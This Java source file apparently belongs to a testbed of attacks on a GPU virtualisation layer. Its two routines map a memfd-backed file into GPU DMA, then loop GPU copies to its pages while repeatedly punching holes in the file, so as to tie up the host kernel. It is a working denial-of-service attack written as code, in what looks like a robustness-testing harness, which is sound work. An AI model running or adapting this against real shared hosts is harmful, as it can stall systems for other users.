package io.sluice.testbed.attack;

import io.sluice.abi.sys.Fd;
import io.sluice.abi.sys.Kernel;
import io.sluice.abi.sys.Mapping;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.util.Arrays;

/** Attacks by memory that is taken away while the GPU is at it, which takes the kernel long. */
final class PunchAttacks {
  private static final long PAGE = 4096;
  private static final long LIST = 0x10_0000;
  private static final long FILE = 1L << 32;
  private static final long LARGE = 1L << 30;
  private static final long SMALL = 32L << 20;
  private static final int M2MF = 2;
  private static final int PITCHED = 1 << 4 | 1 << 8;
  private static final int WORD = 4;
  private static final int PAGES = 64;
  private static final int COPIES = 64;

  private PunchAttacks() {}

  /** A file whose pages take the kernel half a second. */
  static void punched(Means means) {
    punch(means, LARGE);
  }

  /** One whose pages take it milliseconds, again and again. */
  static void nibbled(Means means) {
    punch(means, SMALL);
  }

  /** Copies to pages of a file, all of whose pages are taken out of it meanwhile. */
  private static void punch(Means means, long fileBytes) {
    Kernel kernel = means.kernel();
    try (RawGuest guest = RawGuest.attach(kernel, means.socket());
        Mapping list = guest.share(LIST, 1 << 20);
        Fd file = kernel.memfdCreate("punched", fileBytes);
        Mapping own = kernel.mmap(file, 0, fileBytes, Kernel.PROT_READ | Kernel.PROT_WRITE)) {
      int refused = guest.dmaMap(FILE, fileBytes, file);
      if (refused != 0) {
        throw new RawGuest.Refused("memory of " + fileBytes + " bytes");
      }
      list.segment().set(ValueLayout.JAVA_LONG, 0, FILE);
      list.segment().set(ValueLayout.JAVA_LONG, 8, fileBytes);
      int buffer = guest.register(fileBytes);
      guest.pages(buffer, 1, 0, LIST);
      int space = guest.space();
      long target = guest.map(space, buffer);
      RawChannel channel = new RawChannel(guest, space);
      channel.submit(RawChannel.method(M2MF, 0, 0x9039));
      int[] copies = copies(channel.address, target);
      do {
        touch(own.segment());
        channel.submit(copies);
        kernel.punchHole(file, 0, fileBytes);
      } while (!means.over().getAsBoolean());
    }
  }

  /**
   * Copies of a word to the first pages, again and again: short work, but for what is done to it.
   */
  private static int[] copies(long from, long to) {
    int[] one =
        Launches.all(
            RawChannel.method(M2MF, 0x238, (int) (to >>> 32), (int) to),
            RawChannel.method(
                M2MF, 0x30c, (int) (from >>> 32), (int) from, 0, (int) PAGE, WORD, PAGES),
            RawChannel.method(M2MF, 0x300, PITCHED));
    int[][] all = new int[COPIES][];
    Arrays.fill(all, one);
    return Launches.all(all);
  }

  private static void touch(MemorySegment pages) {
    for (long at = 0; at < pages.byteSize(); at += PAGE) {
      pages.set(ValueLayout.JAVA_BYTE, at, (byte) 1);
    }
  }
}
